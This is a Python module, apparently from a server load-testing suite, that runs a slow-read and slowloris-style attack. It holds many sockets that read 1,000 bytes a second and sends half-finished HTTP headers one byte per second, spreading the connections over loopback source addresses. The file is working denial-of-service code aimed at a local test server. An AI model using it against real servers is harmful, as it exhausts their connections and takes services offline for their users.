"""Slow readers and half-open requests against one server, until this process is told to end.

`python -m loadtest.attackers URLS --readers 1000 --half-open 200` asks for the URLs of a file (one a
line, all of one server), prints an event `attacking` once every reader has been answered, and goes on.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import selectors
import socket
import time
from collections.abc import Sequence
from pathlib import Path
from urllib.parse import urlsplit

from loadtest.http_wire import request
from loadtest.rawclient import target_of

_START_S = 30.0
_SIP_BYTES = 1000
_SIP_EVERY_S = 1.0
_RECEIVE_BUFFER_BYTES = 4096
_ADDRESSES = 250


class Attack:
    """Many clients that take little, from addresses of their own.

    A reader takes 1,000 bytes a second. A half-open request sends a byte of its head every second,
    and is opened again when the server has closed it.
    """

    def __init__(self, urls: Sequence[str]) -> None:
        parts = urlsplit(urls[0])
        self._address = (parts.hostname or "", parts.port or 80)
        self._host = parts.netloc
        self._paths = [target_of(url) for url in urls]
        self._readers: list[socket.socket] = []
        self._halves: list[socket.socket] = []

    def begin(self, readers: int, halves: int) -> int:
        """Open everything; return how many readers got the first bytes of a 200."""
        for number in range(readers):
            sock = self._open(f"127.0.1.{1 + number % _ADDRESSES}")
            sock.sendall(request(self._paths[number % len(self._paths)], self._host))
            sock.setblocking(False)
            self._readers.append(sock)
        self._halves = [self._half(number) for number in range(halves)]
        served = 0
        deadline = time.monotonic() + _START_S
        with selectors.DefaultSelector() as selector:
            for sock in self._readers:
                selector.register(sock, selectors.EVENT_READ, sock)
            while selector.get_map() and time.monotonic() < deadline:
                for key, _events in selector.select(0.5):
                    selector.unregister(key.fileobj)
                    with contextlib.suppress(OSError):
                        served += key.data.recv(_SIP_BYTES).startswith(b"HTTP/1.1 200")
        return served

    def go_on(self) -> None:
        """Sip and drip for ever."""
        while True:
            time.sleep(_SIP_EVERY_S)  # the slowness is the point
            for sock in self._readers:
                with contextlib.suppress(OSError):
                    sock.recv(_SIP_BYTES)
            for number, sock in enumerate(self._halves):
                if not _drip(sock):
                    sock.close()
                    self._halves[number] = self._half(number)

    def _open(self, source: str) -> socket.socket:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _RECEIVE_BUFFER_BYTES)
        sock.bind((source, 0))
        sock.settimeout(10.0)
        sock.connect(self._address)
        return sock

    def _half(self, number: int) -> socket.socket:
        sock = self._open(f"127.0.2.{1 + number % _ADDRESSES}")
        sock.sendall(b"GET /v1/status HTTP/1.1\r\nHo")
        sock.setblocking(False)
        return sock


def _drip(sock: socket.socket) -> bool:
    """Send one more byte of a head; False once the server has closed."""
    try:
        if not sock.recv(1):
            return False
    except BlockingIOError:
        pass
    except OSError:
        return False
    try:
        sock.send(b"o")
    except OSError:
        return False
    return True


def main() -> None:
    """Attack what the command line names."""
    parser = argparse.ArgumentParser(description="slow readers and half-open requests")
    parser.add_argument("urls", type=Path)
    parser.add_argument("--readers", type=int, default=1000)
    parser.add_argument("--half-open", type=int, default=200)
    options = parser.parse_args()
    attack = Attack(options.urls.read_text().split())
    served = attack.begin(options.readers, options.half_open)
    print(json.dumps({"event": "attacking", "served": served}), flush=True)
    attack.go_on()


if __name__ == "__main__":
    main()
